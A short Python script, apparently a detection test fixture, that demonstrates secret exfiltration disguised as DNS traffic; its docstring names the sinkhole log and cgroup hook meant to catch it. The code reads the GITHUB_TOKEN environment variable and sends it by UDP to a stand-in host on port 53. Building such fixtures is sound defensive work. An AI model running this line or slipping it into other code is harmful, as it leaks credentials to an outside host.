#!/usr/bin/python3
"""
Trick: Sends a secret to port 53 in packets that are no DNS at all.
Known from: tunnels through the one port that every firewall leaves open.
First: sendto; the sinkhole's record of what it could not parse
Second: the cgroup hook's copy of the address
"""

import os
import socket

channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.sendto(os.environ["GITHUB_TOKEN"].encode(), ("203.0.113.53", 53))
print("performed")
